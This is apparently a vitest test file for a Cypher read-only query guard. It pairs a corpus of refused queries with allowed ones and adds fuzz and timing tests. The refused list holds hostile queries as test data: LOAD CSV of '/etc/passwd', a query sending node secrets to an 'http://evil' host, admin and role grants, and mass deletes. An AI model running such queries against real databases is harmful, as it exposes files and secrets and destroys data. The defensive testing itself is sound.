import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkReadOnly } from './guard.ts'
import { namedQueries } from './named-queries.ts'

/** Texts that write, load, administer, or could be read so by one engine or the other. */
const attacks: readonly string[] = [
  // Plain writes and schema.
  'CREATE (n:X)',
  'MATCH (n) SET n.x = 1',
  'MATCH (n) SET n:Admin RETURN n',
  'MATCH (n) SET n += {x: 1} RETURN n',
  'MATCH (n) REMOVE n.x RETURN n',
  'MATCH (n) DELETE n',
  'MATCH (n) DETACH DELETE n',
  'MATCH (n) NODETACH DELETE n',
  'MERGE (n:X {id: 1}) RETURN n',
  'MATCH (n) MERGE (m:X {id: n.id}) RETURN m',
  'match (n) sEt n.x = 1 return n',
  'MATCH (n) FOREACH (x IN [1] | CREATE (:X))',
  'UNWIND [1] AS x INSERT (:X {n: x})',
  'CREATE INDEX i FOR (n:X) ON (n.id)',
  'DROP INDEX i',
  'CREATE CONSTRAINT c FOR (n:X) REQUIRE n.id IS UNIQUE',
  'ALTER DATABASE neo4j SET ACCESS READ ONLY',
  'WITH 1 AS x CREATE (:X) RETURN x',
  'MATCH (n) WITH n LIMIT 1 SET n.x = 1 RETURN n',
  'RETURN 1 AS x UNION CREATE (n:X) RETURN n AS x',
  'CALL { CREATE (:X) } RETURN 1 AS x',
  'MATCH (n) CALL { WITH n SET n.x = 1 } RETURN n',
  'MATCH (n) CALL (n) { SET n.x = 1 } RETURN n',
  'MATCH (n) CALL { WITH n DELETE n } IN TRANSACTIONS OF 10 ROWS',
  'RETURN EXISTS { CREATE (:X) } AS x',
  'RETURN COUNT { MATCH (n) SET n.x = 1 } AS x',
  'RETURN {a: COLLECT { MATCH (n) DELETE n RETURN 1 }} AS x',
  // Files, procedures, the server.
  "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
  "LOAD CSV WITH HEADERS FROM '/etc/passwd' AS row RETURN row",
  "MATCH (n) RETURN n.id AS i UNION LOAD CSV FROM '/etc/hostname' AS row RETURN row AS i",
  "WITH 'http://evil/?' AS u MATCH (n) LOAD CSV FROM u + n.secret AS row RETURN row",
  "RETURN 1 AS x UNION ALL\nLOAD\nCSV FROM '/etc/passwd' AS x RETURN x",
  "MATCH (n) CALL { LOAD CSV FROM '/etc/passwd' AS row RETURN row } RETURN row",
  'CALL db.labels()',
  'CALL db.labels() YIELD label RETURN label',
  'MATCH (n) CALL db.stats.retrieve("QUERIES") YIELD data RETURN data',
  'WITH 1 AS x CALL dbms.killConnection("bolt-1") YIELD message RETURN message',
  'MATCH (n) CALL `db`.`labels`() YIELD label RETURN label',
  'MATCH (n) CALL/**/db.labels() YIELD label RETURN label',
  'MATCH (n) CALL db.clearQueryCaches YIELD value RETURN value',
  'MATCH (n) CALL (db.labels()) YIELD label RETURN label',
  'MATCH (n) OPTIONAL CALL db.labels() YIELD label RETURN label',
  "RETURN apoc.load.json('http://evil') AS x",
  "RETURN `apoc`.`load`.`json`('http://evil') AS x",
  "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n)', {}) AS x",
  'RETURN gds.util.asNode(0) AS x',
  "RETURN load_file('/etc/passwd') AS x",
  'RETURN file() AS x, linenumber() AS y',
  'MATCH (n) RETURN id(n) AS x',
  'MATCH (n) RETURN elementId(n) AS x',
  'SHOW INDEXES',
  'SHOW USERS YIELD * RETURN *',
  'MATCH (n) RETURN n UNION SHOW TRANSACTIONS',
  "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
  'USE system MATCH (n) RETURN n',
  'WITH 1 AS x CALL { USE other MATCH (n) RETURN n } RETURN n',
  'CYPHER runtime=slotted MATCH (n) RETURN n',
  'EXPLAIN MATCH (n) RETURN n',
  'PROFILE MATCH (n) RETURN n',
  'START DATABASE neo4j',
  'STOP DATABASE neo4j',
  'GRANT ROLE admin TO bob',
  'BEGIN',
  'MATCH (n) USING INDEX n:X(id) RETURN n',
  // Several statements.
  'MATCH (n) RETURN n; MATCH (m) DELETE m',
  'RETURN 1 AS x;; RETURN 2 AS y',
  'RETURN 1 AS x; // more\nCREATE (n)',
  // Hiding in comments, strings, quoted names and numbers.
  'MATCH (n) /* x */ SET n.x = 1 RETURN n',
  'MATCH (n) /* x /* y */ SET n.x = 1 /* */ RETURN n',
  "MATCH (n) /* /* */ ' */ SET n.x = 1 // ' \nRETURN n",
  'MATCH (n) // x\nSET n.x = 1 RETURN n',
  "MATCH (n) // x\r ' \nSET n.x = 1 // ' \nRETURN n",
  'MATCH (n) // x\u2028SET n.x = 1\nRETURN n',
  'MATCH (n) RETURN n /* open',
  "RETURN 'a\\' AS x, ' SET '",
  "RETURN 'open AS x",
  "RETURN '\\u0027 AS x SET n.x = 1 //' AS y",
  "RETURN '\\\\u0027 AS x CREATE (n) //' AS y",
  'MATCH (n) \\u0053ET n.x = 1 RETURN n',
  'MATCH (n) // \\u000a SET n.x = 1\nRETURN n',
  'MATCH (n:`a\\`) SET n.x = 1 RETURN n //`',
  'MATCH (n:`open) RETURN n',
  "RETURN 'a\\qb' AS x",
  'MATCH\u00a0(n) RETURN n',
  'MATCH (n)\u2003SET n.x = 1 RETURN n',
  'MATCH (n)\u000bSET n.x = 1 RETURN n',
  'MATCH (n)\u001cRETURN n',
  '\ufeffCREATE (n)',
  'RETURN 1 AS x\u0000; CREATE (n)',
  'MATCH (n) WHERE n.x = 1SET n.y = 2 RETURN n',
  'MATCH (n) WHERE n.x = 1e0SET n.y = 2 RETURN n',
  'MATCH (n) WHERE n.x = 1.SET n.y = 2 RETURN n',
  'MATCH (n) WHERE n.x = .5SET n.y = 2 RETURN n',
  'MATCH (n) WHERE n.x = 0x1SET n.y = 2 RETURN n',
  "MATCH (n) WHERE n.x = 'a'SET n.y = 2 RETURN n",
  'MATCH (n) WHERE n.x = $p SET n.y = 2 RETURN n',
  'MATCH (n) WHERE n.x IN [1..SET n.y = 2] RETURN n',
  'MATCH (`n`)SET n.y = 2 RETURN n',
  "RETURN @'a\\' AS x",
  'RETURN $$CREATE (n)$$ AS x',
  // Running away.
  'MATCH (a)-[*]->(b) RETURN b',
  'MATCH (a)-[:R*]->(b) RETURN b',
  'MATCH (a)-[r:R*2..]->(b) RETURN b',
  'MATCH (a)-[:R*..$n]->(b) RETURN b',
  'MATCH (a)-[:R*1..31]->(b) RETURN b',
  'MATCH (a)-[:R*1..999999999999]->(b) RETURN b',
  'MATCH (a)-[:R]->+(b) RETURN b',
  'MATCH (a)-[:R]->*(b) RETURN b',
  'MATCH (a)-[:R]->{1,}(b) RETURN b',
  'MATCH (a)-[:R]-{1,}(b) RETURN b',
  'MATCH (a)-[:R]-+(b) RETURN b',
  'MATCH (a) ((x)-[:R]->(y))+ (b) RETURN b',
  'MATCH (a) ((x)-->(y)){1,} (b) RETURN b',
  'MATCH p = shortestPath((a)-[*]-(b)) RETURN p',
  'UNWIND range(1, 1000000000) AS x RETURN x',
  'UNWIND range(1, $n) AS x RETURN x',
  'RETURN {a: range(0, 99999999)} AS x',
  'RETURN `range`(0, 99999999) AS x',
  'RETURN [x IN range(1, 10000) | range(1, 10000)] AS x',
  "RETURN reduce(s = 'x', i IN [1, 2, 3] | s + s) AS x",
  `RETURN ${'('.repeat(100)}1${')'.repeat(100)} AS x`,
  `RETURN '${'x'.repeat(70_000)}' AS x`,
  // Not a query at all.
  '',
  ' \n // nothing',
  '(n) RETURN n',
  'RETURN (1 AS x',
  'RETURN [1, 2) AS x',
  'RETURN 1) AS x',
  "'MATCH' (n)",
]

const legitimate: readonly string[] = [
  'MATCH (n) RETURN n',
  'MATCH (n) RETURN n;',
  'MATCH (n) RETURN n ; // done',
  'match (n:ExecutionPlan) where n.status = "FAILED" return n.name as name',
  'MATCH (a:application {name: $name})-[:owns]->(s:service) RETURN s.name AS name',
  "MATCH (:application {name:'ecommerce'})-[r:owns]->(:service {name:'payment'}) RETURN r",
  'MATCH p = (a)-[:DEPENDS_ON*1..5]->(b) RETURN p AS path',
  'MATCH (a)-[:DEPENDS_ON*..30]->(b) WITH DISTINCT b RETURN b.id AS id',
  'MATCH (a)-[r:A|B*2]-(b) RETURN r',
  'MATCH (a)-[:R*1..3 {x: 1}]->(b) RETURN b',
  'MATCH (a)-->(b)<--(c), (d)--(e) RETURN a, c, e',
  'MATCH (n) WHERE n.set = 1 AND n.create IS NOT NULL RETURN n.delete AS x',
  'MATCH (n:CREATE)-[:SET]->(m:`LOAD CSV`) RETURN m',
  'RETURN {set: 1, create: 2, load: 3} AS map',
  'WITH {merge: 1} AS m RETURN m.merge AS x',
  "MATCH (n) WHERE n.text CONTAINS 'CREATE (n) SET' RETURN n",
  'MATCH (n) /* SET everything */ RETURN n // DELETE nothing',
  'MATCH (n) // ein Kommentar über Größe\r\nRETURN n',
  "MATCH (n {name: 'Zürich ✓ 東京'}) RETURN n",
  "RETURN 'it\\'s' AS a, \"say \\\"so\\\"\" AS b, 'line\\nbreak' AS c, '\\\\' AS d",
  'MATCH (n) WHERE n.x = $set RETURN n',
  'MATCH (`set`) RETURN `set`.x AS `delete`',
  'OPTIONAL MATCH (n:Agent) RETURN count(*) AS n',
  'UNWIND [1, 2, 3] AS x RETURN sum(x) AS total',
  'UNWIND range(1, 100) AS x RETURN x ORDER BY x DESC SKIP 5 LIMIT 10',
  'RETURN range(0, -10, -2) AS x',
  'WITH 1 AS x RETURN x UNION ALL WITH 2 AS x RETURN x',
  'CALL { MATCH (n) RETURN n LIMIT 1 } RETURN n'.replace(/^/, 'WITH 1 AS one '),
  'MATCH (n) CALL (n) { MATCH (n)-->(m) RETURN count(m) AS c } RETURN n, c',
  'MATCH (n) WHERE EXISTS { MATCH (n)-->(:Agent) } RETURN n',
  'MATCH (n) RETURN n.id AS id, COUNT { (n)-->() } AS degree',
  'MATCH (s) WHERE NOT s.status IN ["A", "B"] AND (s.x > 1 OR s.y <= 2.5) RETURN s',
  'MATCH (s) RETURN s.a + s.b * (s.c - 2) / 3 % 4 ^ 2 AS x',
  'MATCH (s) RETURN (s.a + 1) * 2 AS x, -(s.b) AS y, [s.c][0] - 1 AS z',
  'MATCH (s) WHERE s.started_at >= datetime($since) RETURN s.started_at AS at',
  "RETURN datetime('2026-01-01T00:00:00Z') + duration('P1D') AS x",
  "MATCH (s) RETURN CASE WHEN (s.x) THEN ('a') ELSE toUpper('b') END AS x",
  "MATCH (s) RETURN CASE s.status WHEN 'FAILED' THEN 1 ELSE 0 END AS x",
  'MATCH (n) RETURN n {.id, .name, labels: labels(n)} AS n, n {.*} AS all',
  'MATCH (n) RETURN [x IN n.list WHERE x > 1 | x * 2] AS xs, n.list[0..2] AS some',
  'MATCH (n) WHERE all(x IN n.list WHERE x > 0) AND size(n.list) > 1 RETURN n',
  "MATCH (n) WHERE n.name =~ 'a.*' OR n.name STARTS WITH ('b') RETURN n",
  'MATCH (n:A&!B) RETURN n',
  'MATCH p = shortestPath((a {id: $a})-[:R*1..10]-(b {id: $b})) RETURN p AS p',
  'MATCH (n) WITH n, count(*) AS c WHERE (c > 1) RETURN DISTINCT n.x AS x, sum(n.y)',
  'MATCH (n) RETURN coalesce(n.a, n.b, 0x1F) AS x, 1e3 AS y, 1.5e-3 AS z, .5 AS w',
  'MATCH (a:A)\nMATCH (b:B)\nWHERE a.x = b.y\nRETURN a, b\nORDER BY a.id ASC, b.id DESC',
]

describe('the guard', () => {
  test.each(attacks.map((text) => [text.slice(0, 90), text]))('refuses %j', (_, text) => {
    const checked = checkReadOnly(text)
    expect(checked).toMatchObject({ ok: false, line: expect.any(Number) as number })
  })

  test.each(legitimate.map((text) => [text.slice(0, 90), text]))('lets through %j', (_, text) => {
    expect(checkReadOnly(text)).toEqual({ ok: true })
  })

  test('has a corpus of at least 80 attacks and 40 legitimate queries', () => {
    expect(new Set(attacks).size).toBeGreaterThanOrEqual(80)
    expect(new Set(legitimate).size).toBeGreaterThanOrEqual(40)
  })

  test('lets through every named query', () => {
    for (const { text } of namedQueries) expect(checkReadOnly(text)).toEqual({ ok: true })
  })

  test('says where: the line and the column of what it refuses', () => {
    const text = 'MATCH (n) // all\n/* of\n them */ RETURN n,\n  1 AS x UNION\tDROP (n)'
    expect(checkReadOnly(text)).toMatchObject({ ok: false, line: 4, column: 16 })
  })

  test('never throws, whatever the text', () => {
    const pieces = fc.constantFrom('MATCH', '(n)', 'RETURN', '*', '-[', ']->', "'", '"', '`')
    const signs = fc.constantFrom('/*', '*/', '//', '\n', '\\', '{', '}', '1', '.', '..', '$')
    const words = fc.constantFrom('SET', 'CALL', 'range(', ')', ':', ' ', ';')
    const texts = fc.array(fc.oneof(pieces, signs, words, fc.string()), { maxLength: 30 })
    fc.assert(
      fc.property(texts, (parts) => {
        const checked = checkReadOnly(`MATCH (n) ${parts.join('')}`)
        return checked.ok || (checked.line >= 1 && checked.column >= 1)
      }),
      { numRuns: 2_000 },
    )
  })

  test('never lets a clause that writes through, whatever stands around it', () => {
    const clause = fc.constantFrom('SET n.x = 1', 'CREATE (m)', 'DETACH DELETE n', 'LOAD CSV FROM')
    const before = fc.constantFrom(
      'MATCH (n)',
      'WITH 1 AS n',
      'MATCH (n) WHERE n.x = 1',
      "RETURN 'a'",
    )
    const blank = fc.constantFrom(' ', '\n', '\t', '/* x */', '// y\n', '\r\n')
    fc.assert(
      fc.property(before, blank, clause, (start, between, then) => {
        expect(checkReadOnly(`${start}${between}${then}`).ok).toBe(false)
      }),
    )
  })

  test('reads a text of the greatest length in a moment', () => {
    const started = performance.now()
    checkReadOnly(`MATCH (n) RETURN ${'(1+'.repeat(20_000)}`)
    checkReadOnly(`MATCH (n) RETURN '${'\\\\'.repeat(32_000)}`)
    checkReadOnly(`MATCH (n) /*${'*'.repeat(65_000)}`)
    checkReadOnly(`MATCH (n) RETURN ${'-[a'.repeat(21_000)}`)
    checkReadOnly(`MATCH (n) RETURN ${')-'.repeat(30_000)}`)
    expect(performance.now() - started).toBeLessThan(1_000)
  })
})
